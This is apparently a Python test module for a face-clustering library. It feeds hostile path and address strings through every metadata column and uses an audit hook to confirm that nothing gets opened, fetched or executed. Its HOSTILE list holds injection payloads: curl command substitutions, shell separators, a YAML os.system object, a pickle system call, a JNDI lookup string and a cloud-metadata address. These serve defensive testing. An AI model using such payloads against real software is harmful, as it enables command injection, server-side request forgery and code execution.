"""R14: no address or path in the data is opened, asked for or run, whatever is done with the faces."""

from __future__ import annotations

import contextlib
import io
import json
import random
import re
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from small_library import PARAMS, faces, open_library

from facecluster import cli, tables
from facecluster.exporting import as_json, faces_table, person_as_json, write_parquet
from trust.measure import Found, Measure, cases
from trust.pages import PAGES, dashboard

HOST = "192.0.2.7"  # of the range that is nobody's
# A path that is named must not be opened, so each leads to a place that nothing else here opens.
_PATHS = (
    "/{m}", "file:///{m}", "file://localhost/{m}", "../../{m}", "~/{m}", "C:\\{m}", "\\\\{h}\\share\\{m}", "//{h}/{m}",
    "/proc/self/fd/{m}", "/dev/{m}", "./{m}", "{m}.npy", "{m}.pkl", "pickle:{m}", "zip://{m}!a", "s3://{m}/a.jpg",
)  # fmt: skip
_ADDRESSES = (
    "http://{h}/{m}", "https://{h}/{m}", "ftp://{h}/{m}", "http://169.254.169.254/{m}", "http://localhost:1/{m}",
    "http://[::1]/{m}", "http://{h}:22/{m}", "https://user:pw@{h}/{m}", "gopher://{h}/{m}", "ws://{h}/{m}",
    "jar:http://{h}/{m}!/", "https://{h}/{m}.svg", "data:text/html,{m}", "javascript:fetch('{m}')", "ldap://{h}/{m}",
    "http://0x7f000001/{m}", "http://{h}%00/{m}", "$(curl {h}/{m})", "`curl {h}/{m}`", "|curl {h}/{m}", "; touch /{m}",
    "!!python/object/apply:os.system ['{m}']", "cos\nsystem\n(S'touch {m}'\ntR.", "${{jndi:ldap://{h}/{m}}}",
)  # fmt: skip
HOSTILE = [shape for shape in (*_PATHS, *_ADDRESSES)]
_MARK = "zq-hidden"


@dataclass
class Watch:
    """What the interpreter was asked to do while it is on."""

    is_on: bool = False
    seen: list[str] = field(default_factory=list)

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        """An audit hook: they cannot be taken away again, only told to look elsewhere."""
        if not self.is_on:
            return
        if event == "open" and _MARK in _text(args[0]):
            self.seen.append(f"open {_text(args[0])[:120]}")
        elif event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname"):
            said = _text(args)
            if HOST in said or _MARK in said or "169.254" in said or "127.0.0.1', 1)" in said:
                self.seen.append(f"{event} {said[:120]}")
        elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.startfile", "webbrowser.open"):
            if _MARK in _text(args) or not re.search(r"'-m', 'facecluster(\.decoding_child'|', 'work')", _text(args)):
                self.seen.append(f"{event} {_text(args)[:120]}")
        elif event == "pickle.find_class" and _is_of_kernels():
            return
        elif event == "pickle.find_class" or (event in ("os.listdir", "os.scandir") and _MARK in _text(args)):
            self.seen.append(f"{event} {_text(args)[:120]}")


def _is_of_kernels() -> bool:
    """Whether it is numba, which reads kernels that it compiled, and their constants."""
    frame = sys._getframe(1)
    while frame is not None:
        if str(frame.f_globals.get("__name__")).startswith("numba.core."):
            return True
        frame = frame.f_back
    return False


def _text(value: object) -> str:
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else str(value)


_watch = Watch()
_hooked = False


@contextlib.contextmanager
def watched() -> Iterator[Watch]:
    """Look at what is opened, asked for and run within the block."""
    global _hooked
    if not _hooked:
        sys.addaudithook(_watch)
        _hooked = True
    _watch.seen, _watch.is_on = [], True
    try:
        yield _watch
    finally:
        _watch.is_on = False


def hidden_io(seed: int, seconds: float, most: int = 200, pages: tuple[str, ...] = PAGES) -> Found:
    """Forty hostile addresses at a time, in every column: imported, clustered, exported and looked at."""
    found = Found()
    rng = random.Random(seed)
    with tempfile.TemporaryDirectory() as name:
        for batch in cases(seconds, -(-most // len(HOSTILE))):
            folder = Path(name) / str(batch)
            folder.mkdir()
            some = [
                shape.format(h=HOST, m=f"{_MARK}-{rng.randrange(10**9)}") for shape in rng.sample(HOSTILE, len(HOSTILE))
            ]
            with watched() as watch:
                used(folder, some, pages)
            found.failures += sorted(set(watch.seen))
            found.n += len(some)
    found.note = f"import, clusters, {len(pages)} pages, exports; every column"
    return found


def used(folder: Path, some: list[str], pages: tuple[str, ...]) -> None:
    """All that is done with faces, their metadata hostile."""
    given, n = faces(), len(some)
    rows = [
        {
            "id": f"{some[at % n]} {at}"[:500].replace("\n", " "),
            "vector": vector.tolist(),
            **{key: some[(at + shift) % n] for shift, key in enumerate(("photo", "url", "folder", "crop"), 1)},
            "box": [1, 1, 50, 50],
        }
        for at, vector in enumerate(given["vectors"])
    ]
    path = folder / "faces.jsonl"
    path.write_text("\n".join(map(json.dumps, rows)))
    service = open_library(folder / "library")
    service.import_files([path])
    service.publish(service.plan(PARAMS), author=some[0])
    view = service.view()
    service.rename(view.cards[0].id, some[1][:200])
    view = service.view()
    as_json(view), tables.as_csv(faces_table(view)), person_as_json(view, view.cards[0].id, service.crop)
    write_parquet(view, folder / "faces.parquet")
    before, sys.argv = sys.argv, ["facecluster", "--library", str(folder / "library"), "export", "--csv"]
    try:
        with contextlib.redirect_stdout(io.StringIO()), contextlib.suppress(SystemExit):
            cli.main()
    finally:
        sys.argv = before
    face = view.faces.ids[0]
    query: dict[str, dict[str, str]] = {
        "person": {"id": view.cards[0].id, "photo": face}, "find": {"face": face}, "map": {"photo": face},
        "people": {"photo": face, "why": "1"},
    }  # fmt: skip
    with dashboard(folder / "library", FACECLUSTER_IMAGE_HOSTS=HOST) as page:
        for shown in pages:
            test = page(shown, **query.get(shown, {}))
            if test.exception:
                raise AssertionError(f"{shown}: {test.exception[0].value}")


MEASURES = [Measure("R14", "Nothing that the data names is opened, asked for or run", "addresses", 200, 0.5, hidden_io)]
